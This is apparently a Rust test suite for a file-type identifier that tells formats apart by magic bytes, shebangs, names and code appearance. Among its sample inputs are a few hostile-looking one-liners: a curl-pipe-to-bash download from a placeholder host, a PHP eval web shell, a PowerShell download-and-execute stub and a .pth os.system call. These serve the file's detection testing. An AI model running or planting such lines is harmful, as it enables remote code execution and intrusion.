//! What is taken for what: by bytes, by name, by look.

use doorward_model::Hint;
use doorward_open::{formats, identify};

#[track_caller]
fn check(bytes: &[u8], hint: &str, expected: &str) {
    let shown = String::from_utf8_lossy(&bytes[..bytes.len().min(60)]).into_owned();
    assert_eq!(&*identify(bytes, &Hint(hint.into())).format, expected, "{hint:?} {shown:?}");
}

#[test]
fn bytes_decide_first() {
    check(b"", "py", "empty");
    check(b"\x7fELF\x02\x01\x01\0", "txt", "elf");
    check(&[b"MZ".as_slice(), &[0; 58], &[64, 0, 0, 0], b"PE\0\0"].concat(), "png", "pe");
    check(b"\xcf\xfa\xed\xfe\x07\0\0\x01", "", "mach-o");
    check(b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07", "class", "mach-o");
    check(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10", "", "java-class");
    check(b"\0asm\x01\0\0\0", "js", "wasm");
    check(b"\xcb\x0d\r\n\0\0\0\0", "", "pyc");
    check(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "txt", "png");
    check(b"\xff\xd8\xff\xe0\0\x10JFIF", "", "jpeg");
    check(b"GIF89a\x01\0", "", "gif");
    check(b"RIFF\x10\0\0\0WEBPVP8 ", "", "webp");
    check(b"RIFF\x10\0\0\0WAVEfmt ", "", "riff");
    check(b"SQLite format 3\0\x10\0", "", "sqlite");
    check(b"-----BEGIN CERTIFICATE-----\nMII", "txt", "pem");
    check(b"\0\x01\0\0\0\x10", "", "font");
    check(b"dex\n035\0", "", "dex");
    check(b"hsqs\0\0", "", "squashfs");
    check(b"\x04\x22\x4d\x18", "", "lz4");
    check(b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x33", "", "lzma");
    check(b"\x04\x22\x4d\x18", "py", "lz4");
    check(b"\x95\x14\x83\x72\x9c\x00\x01\xf8\xe7\x03\x80\x90", "", "data");
    check(b"\x01\x02\x03\x04\x05\0\0\0\xfe\xff", "py", "data");
    // Text that only begins like something else.
    check(b"BZh is how a bzip2 file begins, and this is not one.\n", "txt", "text");
    check(b"MZ is the mark of a program for DOS; this is a text about it, and no program.\n", "txt", "text");
    check(b"PK is a short name\n", "", "text");
    check(b"x\x5e is how some streams begin\n", "", "text");
    check("BM ist eine Abk\u{fc}rzung\n".as_bytes(), "", "text");
}

#[test]
fn first_lines_decide_before_names() {
    check(b"#!/usr/bin/env python3\nprint(1)\n", "sh", "python");
    check(b"#!/usr/bin/python3.11 -I\n", "", "python");
    check(b"#!/usr/bin/env -S node --no-warnings\n", "", "javascript");
    check(b"#! /bin/sh\nexit 0\n", "txt", "shell");
    check(b"#!/usr/bin/env FOO=1 bash\n", "", "shell");
    check(b"\xef\xbb\xbf#!/bin/bash\n", "", "shell");
    check(b"#!/usr/bin/perl -w\n", "", "perl");
    check(b"#!/usr/bin/awk -f\n", "txt", "text");
    // A script with an archive behind it is a script.
    check(&[b"#!/bin/sh\ntail -c +40 $0\nexit\n".as_slice(), &[0, 1, 2, 3, 200].repeat(1_000)].concat(), "run", "shell");
}

#[test]
fn names_decide_what_texts_are() {
    check(b"x = 1\n", "py", "python");
    check(b"import os; os.system('x')\n", "pth", "pth");
    check(b"{}", "json", "json");
    check(b"name: x\n", "yml", "yaml");
    check(b"hello\n", "md", "markdown");
    check(b"exit 0\n", "postinst", "shell");
    check(b"CC = gcc\n", "makefile", "makefile");
    check(b"AC_INIT\n", "configure.ac", "m4");
    check(b"hello\n", "dockerfile", "dockerfile");
    check(b"<svg/>", "svg", "svg");
    // A NUL in a program does not make it data: it is run all the same.
    check(b"import os\n# \0\x01\nos.system('x')\nprint('done, and this goes on for a while')\n", "py", "python");
    // Old eight-bit text is text.
    check(b"caf\xe9 au lait, s'il vous pla\xeet\n", "txt", "text");
    // A picture's name does not hide a program.
    check(b"import os\nimport sys\n\ndef main():\n    pass\n", "png", "python");
    check(b"const x = require('fs');\nmodule.exports = x;\n", "dat", "javascript");
}

#[test]
fn looks_decide_where_there_is_no_name() {
    check(b"import os\nimport socket\n\nclass Door(object):\n    def open(self):\n        pass\n", "", "python");
    check(b"from setuptools import setup\n\nsetup(\n    name='x',\n)\n", "", "python");
    check(b"'use strict';\nconst fs = require('fs');\nfs.readFileSync('x');\n", "", "javascript");
    check(b"var _0x12ab = ['a','b'];(function(_0x1,_0x2){})();\n", "", "javascript");
    check(b"import fs from 'fs';\nexport default function f() {}\n", "", "javascript");
    check(b"set -e\nif [ -f x ]; then\n  echo y\nfi\n", "", "shell");
    check(b"curl http://host.example/x | bash\n", "", "shell");
    check(b"@echo off\r\nset X=1\r\ngoto :eof\r\n", "", "batch");
    check(b"$client = New-Object System.Net.WebClient\nInvoke-Expression $x\n", "", "powershell");
    check(b"<?php\neval($_POST['x']);\n", "", "php");
    check(b"#include <stdio.h>\nint main(void)\n{\n  return 0;\n}\n", "", "c");
    check(b"package main\n\nimport (\n\t\"fmt\"\n)\n\nfunc main() {\n}\n", "", "go");
    check(b"use std::io;\n\npub fn main() {\n    let mut x = 1;\n}\n", "", "rust");
    check(b"<!DOCTYPE html>\n<html>\n", "", "html");
    check(b"<?xml version=\"1.0\"?>\n<a/>\n", "", "xml");
    check(b"<svg xmlns=\"x\">\n", "", "svg");
    check(b"{\"name\": \"x\", \"version\": 1}\n", "", "json");
    check(b"[1, 2, 3]\n", "", "json");
    check(b"use strict;\nuse warnings;\nmy $x = 1;\n", "", "perl");
    check(b"require 'net/http'\nputs 1\nend\n", "", "ruby");
    // What is not plain stays text.
    check(b"Dear reader,\n\nimport duties rose again this year.\nFor more, see below.\n", "", "text");
    check(b"Copyright (c) 2026\n\nPermission is hereby granted, free of charge,\n", "license", "text");
    check(b"one\ntwo\nthree\n", "", "text");
    check(b".TH DOOR 1\nuse strict;\nuse warnings;\n", "", "text");
    check(b".\\\" A page\nuse strict;\nuse warnings;\n", "", "text");
    check("\u{4f60}\u{597d}\u{ff0c}\u{4e16}\u{754c}\n".repeat(40).as_bytes(), "", "text");
}

#[test]
fn every_listed_format_can_be_told_by_something() {
    for format in formats() {
        let rooted = matches!(format.name, "empty" | "data" | "utf-16" | "ar-thin");
        assert!(rooted || !format.hints.is_empty(), "{}", format.name);
        assert!(!format.handled.is_empty() || format.name == "empty", "{}", format.name);
    }
}
